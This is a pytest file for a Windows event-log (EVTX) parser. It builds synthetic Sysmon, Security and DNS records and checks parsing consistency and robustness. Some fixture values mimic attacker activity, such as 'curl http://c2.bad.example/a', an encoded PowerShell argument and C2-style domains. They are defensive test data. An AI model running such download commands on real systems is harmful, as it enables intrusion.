"""EVTX files as Windows writes them, with records as instances of templates.

The quick parser must equal the full one.
"""

from __future__ import annotations

import io
import json
import random
import struct
from collections.abc import Sequence
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from bench.evtx_builder import (
    ANSI,
    BOOL,
    FILETIME,
    FIRST_TIME,
    GUID,
    HEX64,
    SID,
    STRING,
    UINT16,
    UINT32,
    Record,
    full_chunks,
    resealed,
    strings,
    template_chunk,
    text,
)
from bench.reading_evtx import EVENT_LOGS, records_of
from lamsach.logs.base import FileContext
from lamsach.logs.binary.evtx.records import (
    CHUNK_BYTES,
    RECORDS_START,
    may_state_holder,
    quick_record,
    record_texts,
)
from lamsach.logs.formats.windows.evtx import Evtx
from lamsach.logs.mappings.windows.events import READS, event_of
from lamsach.logs.mappings.windows.json import record_of_json
from lamsach.logs.mappings.windows.record import WindowsRecord
from lamsach.logs.text.times.loose_times import LooseTimes
from lamsach.model import Event, EventKind, Refusal

from .evtx_builder import file
from .whole_logs import as_tables, by_line

SAMPLES = Path(__file__).parents[2] / ".." / "shared" / "samples" / "evtx" / "files"
SECURITY = "Microsoft-Windows-Security-Auditing"
CONTEXT = FileContext("a.evtx")


def items_of(data: bytes) -> list[Event | Refusal]:
    reader = Evtx(CONTEXT)
    reader.names_files = True
    return list(reader.read(io.BytesIO(data)))


def full_parse(chunk: bytes) -> list[Event]:
    """Return the events of a complete chunk, decoding all JSON."""
    times = LooseTimes(CONTEXT)
    records = [whole_record(record_text or "") for record_text in record_texts(chunk)]
    return [event_of(record, CONTEXT, times, "evtx", number) for number, record in enumerate(records, 1)]


def whole_record(given: str) -> WindowsRecord:
    """Return the record with all its data, including empty values that the quick parser reads."""
    found = json.loads(given)
    record = record_of_json(found)
    if quick_record(given) is not None:
        record.data = {name.lower(): spelled(value) for name, value in found["Event"]["EventData"].items()}
    return record


def spelled(value: object) -> str:
    if isinstance(value, bool):
        return str(value).lower()
    return "" if value is None else str(value)


def connection(initiated: bool, source: str = "192.168.56.1", port: int = 52543, **more: str) -> Record:
    ends = strings(SourceIp=source, DestinationIp="192.168.56.101", DestinationPort="3389", **more)
    flag = ("Initiated", BOOL, initiated.to_bytes(4, "little"))
    return Record(3, [flag, ("SourcePort", UINT16, port.to_bytes(2, "little")), *ends])


def filtered(number: int, port: str, source: str = "10.0.2.17") -> Record:
    """Build an event of the filtering platform, whose ports are texts."""
    data = strings(Application="\\device\\a.exe", Direction="%%14593", SourceAddress=source, SourcePort=port,
                   DestAddress="203.0.113.9", DestPort="443", Protocol="6")  # fmt: skip
    return Record(number, data, SECURITY, "Security")


def some_connection(chance: random.Random, user: str) -> Record:
    """Build a connection or packet whose ends have any spelling, also invalid ones."""
    addresses = [
        "10.1.1.5",
        "0.0.0.0",
        "::",
        "192.0.2.7",
        "2001:db8::7",
        "",
        "-",
        "\ud800",
        "::ffff:192.0.2.8",
    ]
    source, far = chance.choice(addresses), chance.choice(addresses)
    if chance.random() < 0.5:
        ends = strings(
            SourceAddress=source,
            DestAddress=far,
            SourcePort="5",
            DestPort="443",
            Direction=chance.choice(["%%14592", "%%14593"]),
        )
        return Record(chance.randrange(5150, 5160), ends, SECURITY, "Security")
    name = chance.choice(["", "-", "www.bad.example", "A.B"])
    flag = ("Initiated", BOOL, chance.randrange(2).to_bytes(4, "little"))
    ends = strings(SourceIp=source, DestinationIp=far, DestinationHostname=name, User=user)
    ports = strings(SourcePort=chance.choice(["5", "50000"]), DestinationPort="3389")
    other = chance.random() < 0.3
    return Record(3, [flag, *ends, *ports], *(["Other", "Other/Operational"] if other else []))


def some_digests(chance: random.Random) -> str:
    """Build digests as Sysmon writes them, or other text in their place."""
    md5, sha1, sha256 = (chance.randbytes(size).hex() for size in (16, 20, 32))
    return chance.choice(
        [
            f"SHA1={sha1.upper()},MD5={md5.upper()},SHA256={sha256.upper()},IMPHASH={md5.upper()}",
            f"SHA1={sha1.upper()},MD5={md5.upper()},SHA256={sha256.upper()},IMPHASH={'0' * 32}",
            f"MD5={md5},SHA256={sha256}",
            f"MD5={'0' * 32},SHA256={sha256}",
            f"MD5={md5[:-1]}g,SHA256={sha256}",
            f"MD5={md5}ab,SHA256={sha256}",
            f"MD5={md5},MD5={md5[::-1]}",
            f"MD5={md5},SHA256={sha256[:-1]}ể",
            f"MD5={md5},SHA256=\0{sha256[:-1]}",
            f"SHA1={sha1},XXX={md5},SHA256={sha256}a",
            *(md5, "", "-"),
        ]
    )


CAME_FROM = ["192.0.2.7", "198.51.100.9", "-", "10.1.1.9", "10.1.1.10", "172.31.0.1", "172.32.0.1",
    "127.0.0.1", "0.0.0.0", "224.0.0.5",
             "10.1.1.255", "010.1.1.9", "::ffff:10.1.1.9", "fe80::1", "", "10.1.1.9\0", "ể", "\ud800",
             "192.0.2.7:5"]  # fmt: skip
COMMANDS = ["cmd /c a.exe -q", "a.exe.", "x.exe-y.example", "a.dll/b.bad.example", "-e",
    "/enc SQBFAFgAIABoAHQAdABwADoALwAvAGEA",
            "A.EXE", "http://srv", "ping 10.1.2.3", "a.ps1\u2028-e", "run -x 5"]  # fmt: skip


def some_record(chance: random.Random) -> Record:
    """Build an event of one of the frequent kinds."""
    user = chance.choice(["UNIT\\an", "NT AUTHORITY\\SYSTEM", "", "PC-17$", "Đặng Ân", 'a"b'])
    process = ("ProcessGuid", GUID, chance.randbytes(16)), ("ProcessId", UINT32, chance.randbytes(4))
    written = ("UtcTime", *text("2026-06-10 16:00:00.123"))
    digests = some_digests(chance)
    ports = chance.choice(
        ["0", "443", str(chance.randrange(65536)), "", "no", "65536", "00443", "000443", " 5", "5\0", "٣"]
    )
    query = chance.choice(
        [
            "bot-c2.xyz",
            "c2.bad.example",
            "n/a",
            "x." + "y" * 64 + ".example",
            "z" * 63 + ".example",
            "",
            "-",
            "a b",
            "WWW.Unit.Example.",
            "\ud800",
            ".",
            "x" * 300,
        ]
    )
    answered = chance.choice(
        [
            "::ffff:192.0.2.1;",
            "::ffff:192.0.2.01;",
            "::ffff:192.0.2.1",
            "::ffff:192.0.2.2;::ffff:192.0.2.2;",
            "type:  5 cdn.bad.example;192.0.2.9;192.0.2.9;",
            "",
            "-",
            "\ud800",
        ]
    )
    ran = chance.choice(
        [
            *COMMANDS,
            "curl http://c2.bad.example/a",
            "b",
            "ping 192.0.2.4",
            "",
            "-enc",
            "\ud800",
            "a.exe",
            "SQBFAFgAIABoAHQAdABwADoALwAvAGEA",
        ]
    )
    kinds = [
        lambda: some_connection(chance, user),
        lambda: Record(1,
            strings(CommandLine=ran,
                ParentCommandLine=chance.choice(["", "SQBFAFgAIABoAHQAdABwADoALwAvAGEA", "c.example.net"]),
                User=user)),
        lambda: Record(22, strings(QueryName=query, QueryResults=answered, User=user)),
        lambda: Record(22,
            strings(QueryName=query, User=user,
                **chance.choice([{"DnsServerIpAddress": "192.0.2.53"}, {"Query": "other.example"}, {}]))),
        lambda: Record(3008, strings(QueryName=query, QueryResults=answered), "Microsoft-Windows-DNS-Client",
            "DNS-Client"),
        lambda: connection(chance.random() < 0.5, chance.choice(["10.1.1.5", "::1", "fe80::1"]),
            chance.randrange(65536), User=user),
        lambda: filtered(chance.choice([5156, 5157, 5158]), ports),
        lambda: Record(7, [written, *process, *strings(ImageLoaded="C:\\a.dll", Hashes=digests, User=user)]),
        lambda: Record(1,
            [written, *process,
             *strings(CommandLine="curl http://c2.bad.example/a", Hashes=digests, User=user)]),
        lambda: Record(22,
            [written, *process,
             *strings(QueryName="bot-c2.xyz", QueryResults="::ffff:192.0.2.1;", User=user)]),
        lambda: Record(13,
            [written, *process, *strings(TargetObject="HKLM\\a", Details="http://203.0.113.7/b")]),
        lambda: Record(4624,
            [("SubjectUserSid", SID, bytes.fromhex("010100000000000512000000")),
             ("LogonId", HEX64, chance.randbytes(8)),
                              *strings(TargetUserName=user, IpAddress=chance.choice(CAME_FROM), IpPort=ports,
                                       WorkstationName="PC-17")], SECURITY, "Security"),
        lambda: Record(900,
            [written, ("At", FILETIME, struct.pack("<Q", FIRST_TIME)),
             *strings(Text="see http://x.bad.example/")], "Other", "Application"),
        lambda: Record(901, strings(a="1", b="http://x.bad.example/"), "Other", "Application", unnamed=True),
        lambda: Record(902, strings(url="http://x.bad.example/"), "Other", "Other/Operational",
            inner="UserData"),
        lambda: Record(903, strings(url="http://x.bad.example/", Ip="192.0.2.1"), "Other",
            "Other/Operational", optional=True),
    ]  # fmt: skip
    return replace(
        chance.choice(kinds)(),
        computer=chance.choice(["PC-AN", "PC-MINH", "PC-Ân", 'PC"1']),
        literal=chance.random() < 0.5,
        time=FIRST_TIME + chance.randrange(10**10),
    )


def some_log(seed: int, count: int = 3) -> bytes:
    chance = random.Random(seed)
    return file(*(template_chunk([some_record(chance) for _ in range(40)]) for _ in range(count)))


@pytest.mark.parametrize(
    "initiated, inbound, device", [(True, False, "192.168.56.1"), (False, True, "192.168.56.101")]
)
def test_initiated_is_a_boolean(initiated: bool, inbound: bool, device: str) -> None:
    """In Sysmon's schema `Initiated` is a Boolean, also in the library's output.

    If it were missed, the remote machine would be blamed."""
    (event,) = items_of(file(template_chunk([connection(initiated)])))
    assert isinstance(event, Event)
    assert (event.inbound, event.device_ip) == (inbound, device)


@pytest.mark.parametrize("seed", range(12))
def test_quick_parser_equals_the_full_one(seed: int) -> None:
    chance = random.Random(seed)
    chunk = template_chunk([some_record(chance) for _ in range(40)])
    assert items_of(file(chunk)) == full_parse(chunk)


@pytest.mark.parametrize("seed", range(8))
def test_tables_equal_single_events(seed: int, tmp_path: Path) -> None:
    path = tmp_path / "a.evtx"
    path.write_bytes(some_log(seed))
    assert as_tables(path) == by_line(path)


def test_every_time_is_read_to_the_microsecond() -> None:
    (event,) = items_of(file(template_chunk([Record(5, strings(User="an"), time=FIRST_TIME + 19)])))
    assert isinstance(event, Event)
    assert str(event.time) == "2026-06-10 16:00:00.000001+00:00"


def test_half_a_character_shifts_no_other_record() -> None:
    data = [strings(QueryName=f"h{at}.example", QueryResults="::ffff:192.0.2.1;") for at in range(5)]
    data[2][0] = ("QueryName", STRING, b"h\0.\0e\0x\0a")
    events = items_of(file(template_chunk([Record(22, values) for values in data])))
    assert [event.domain for event in events if isinstance(event, Event)][2:] == ["h3.example", "h4.example"]


@pytest.mark.parametrize("name", EVENT_LOGS)
def test_benchmark_logs_use_the_quick_parser(name: str, tmp_path: Path) -> None:
    chunk = next(full_chunks(records_of(name)))
    texts = record_texts(chunk)
    assert len(texts) > 40
    assert all(quick_record(record_text or "") for record_text in texts)
    assert items_of(file(chunk)) == full_parse(chunk)
    path = tmp_path / "a.evtx"
    path.write_bytes(file(chunk))
    assert as_tables(path) == by_line(path)


def test_digests_are_columns(tmp_path: Path) -> None:
    chance = random.Random(4)
    digests = [(chance.randbytes(32).hex(), chance.randbytes(16).hex()) for _ in range(60)]
    texts = [
        f"SHA256={long.upper()},MD5={short.upper()},IMPHASH={long[:32].upper()}" for long, short in digests
    ]
    records = [Record(7, strings(Hashes=text, User="UNIT\\an")) for text in texts]
    path = tmp_path / "a.evtx"
    path.write_bytes(file(template_chunk(records), template_chunk([Record(7, strings(User="UNIT\\an"))])))
    table, _, _ = as_tables(path)
    assert table.column("sha256").to_pylist() == [*(long for long, _ in digests), None]
    assert table.column("md5").to_pylist() == [*(short for _, short in digests), None]


@pytest.mark.parametrize("seed", range(6))
def test_digests_of_all_kinds(seed: int, tmp_path: Path) -> None:
    chance = random.Random(seed)
    records = [Record(7, strings(Hashes=some_digests(chance), User="UNIT\\an")) for _ in range(70)]
    path = tmp_path / "a.evtx"
    path.write_bytes(file(template_chunk(records)))
    assert as_tables(path) == by_line(path)


UNUSUAL_RECORDS = {
    "data without names": Record(900, strings(a="1"), unnamed=True),
    "data in another element": Record(900, strings(a="1"), inner="UserData"),
    "no data": Record(900, []),
    "one name twice": Record(900, [("A", *text("1")), ("A", *text("2"))]),
    "a kind that Windows has not": Record(900, [("A", ANSI, b"text")], "Other", "Application"),
    "a name with a quotation mark": Record(900, strings(A="1"), computer='PC"', literal=False),
    "a name with a backslash": Record(900, strings(A="1"), provider="A\\B"),
    "half a surrogate pair": Record(900, [("A", STRING, b"\x00\xd8")], "Other", "Application"),
    "an endless name": Record(900, strings(A="1"), channel="a" * 2000),
    "a truth value of three": Record(3, [("Initiated", BOOL, b"\3\0\0\0")]),
    "more values than usual": Record(900, strings(**{f"a{at}": "1" for at in range(70)})),
    "a time far away": replace(connection(True), time=0),
}


@pytest.mark.parametrize("record", UNUSUAL_RECORDS.values(), ids=UNUSUAL_RECORDS)
def test_unusual_record_affects_no_other(record: Record) -> None:
    usual = connection(True)
    chunk = template_chunk([usual, record, usual])
    items = items_of(file(chunk))
    assert items == full_parse(chunk)
    assert [item.destination_ip for item in items if isinstance(item, Event)][::2] == ["192.168.56.101"] * 2


@pytest.mark.parametrize("record", [connection(True), Record(7, strings(User="an")), filtered(5156, "5")])
def test_most_events_state_no_holder(record: Record) -> None:
    """They are skipped where only log-ons and leases matter."""
    chunk = template_chunk(
        [record, Record(4624, strings(TargetUserName="an", IpAddress="10.1.1.9"), SECURITY, "Security")]
    )
    assert [may_state_holder(record_text or "") for record_text in record_texts(chunk)] == [False, True]
    (event,) = Evtx(CONTEXT).read_holders(io.BytesIO(file(chunk)))
    assert isinstance(event, Event)
    assert (event.kind, event.line) == (EventKind.LOGON, 2)


@pytest.mark.parametrize("seed", range(6))
def test_skipped_events_state_no_holder(seed: int) -> None:
    data = some_log(seed)
    holders = list(Evtx(CONTEXT).read_holders(io.BytesIO(data)))
    others = [item for item in items_of(data) if item not in holders]
    assert all(isinstance(item, Event) for item in others)
    assert {item.kind for item in others if isinstance(item, Event)} <= {*EventKind} - {
        EventKind.LOGON,
        EventKind.LEASE,
    }


class PanicException(BaseException):
    pass


@pytest.mark.parametrize(
    "error",
    [
        PanicException("Failed to parse record number 1: panicked"),
        RuntimeError("Failed to parse record number 1"),
    ],
)
def test_a_panic_of_the_library_is_a_damaged_record(
    error: BaseException, monkeypatch: pytest.MonkeyPatch
) -> None:
    class Broken:
        def __init__(self, *_: object, **__: object) -> None:
            self._given = iter([{"data": "a"}, error, {"data": "b"}])

        def records_json(self) -> Broken:
            return self

        def __iter__(self) -> Broken:
            return self

        def __next__(self) -> dict[str, str]:
            found = next(self._given)
            if isinstance(found, BaseException):
                raise found
            return found

    monkeypatch.setattr("evtx.PyEvtxParser", Broken)
    assert record_texts(bytes(CHUNK_BYTES)) == ["a", None, "b"]
    monkeypatch.setattr(Broken, "__next__", lambda _: (_ for _ in ()).throw(KeyboardInterrupt))
    with pytest.raises(KeyboardInterrupt):
        record_texts(bytes(CHUNK_BYTES))


def test_records_without_bodies() -> None:
    """A chunk full of record headers without bodies is refused, and the next chunk is read."""
    count = (CHUNK_BYTES - RECORDS_START) // 32
    chunk = bytearray(template_chunk([connection(True)]))
    for at in range(count):
        head = struct.pack("<4sIQQ", b"\x2a\x2a\0\0", 32, at, FIRST_TIME)
        chunk[RECORDS_START + 32 * at : RECORDS_START + 32 * at + 32] = (
            head + bytes(4) + struct.pack("<I", 32)
        )
    struct.pack_into("<II", chunk, 44, RECORDS_START, RECORDS_START + 32 * count)
    items = items_of(file(resealed(bytes(chunk)), template_chunk([connection(True)])))
    assert 1 < len(items) <= count + 1
    assert [type(item) for item in items] == [Refusal] * (len(items) - 1) + [Event]


@settings(max_examples=60, deadline=None)
@given(
    st.integers(0, 3),
    st.lists(st.tuples(st.integers(512, 12000), st.binary(min_size=1, max_size=4)), min_size=1, max_size=8),
)
def test_damage_with_valid_checksums_affects_one_chunk(
    seed: int, changes: Sequence[tuple[int, bytes]]
) -> None:
    """An attacker who changes a log can recompute the checksums."""
    data = bytearray(template_chunk([some_record(random.Random(seed + at)) for at in range(12)]))
    for place, new in changes:
        data[place : place + len(new)] = new
    items = items_of(file(resealed(bytes(data)), template_chunk([connection(True)])))
    assert isinstance(items[-1], Event)
    assert items[-1].destination_ip == "192.168.56.101"


class _TrackedData(dict[str, str]):
    """Data that note which names are read."""

    def __init__(self, data: dict[str, str]) -> None:
        super().__init__(data)
        self.asked: set[str] = set()

    def __getitem__(self, name: str) -> str:
        self.asked.add(name)
        return super().__getitem__(name)

    def get(self, name: str, default: Any = None) -> Any:
        self.asked.add(name)
        return super().get(name, default)


@settings(max_examples=40, deadline=None)
@given(st.data())
def test_readers_use_only_their_listed_data(data: st.DataObject) -> None:
    """Otherwise events that differ in an unlisted name would be merged."""
    for reader, names in READS.items():
        values = st.sampled_from(
            [
                "",
                "-",
                "192.0.2.1",
                "10.0.0.1:5",
                "443",
                "true",
                "false",
                "an",
                "PC-1$",
                "http://a.example/",
                "0x12",
            ]
        )
        listed = _TrackedData(data.draw(st.dictionaries(st.sampled_from(sorted(names)), values, max_size=8)))
        number = data.draw(st.sampled_from([1, 3, 22, 3008, 4624, 4768, 4776, 5140, 5156, 5157, 6272]))
        reader(WindowsRecord(number, "P", "C", "PC", None, listed))
        assert listed.asked <= names


@pytest.mark.skipif(not SAMPLES.is_dir(), reason="the samples are not there")
def test_quick_parser_on_event_logs() -> None:
    for path in sorted(SAMPLES.glob("*.evtx")):
        data = path.read_bytes()
        chunks = [data[at : at + CHUNK_BYTES] for at in range(4096, len(data), CHUNK_BYTES)]
        long = [event for chunk in chunks if any(chunk) for event in full_parse(chunk)]
        numbered = [replace(event, line=number) for number, event in enumerate(long, 1)]
        assert [
            replace(item, file="a.evtx") for item in items_of(data) if isinstance(item, Event)
        ] == numbered
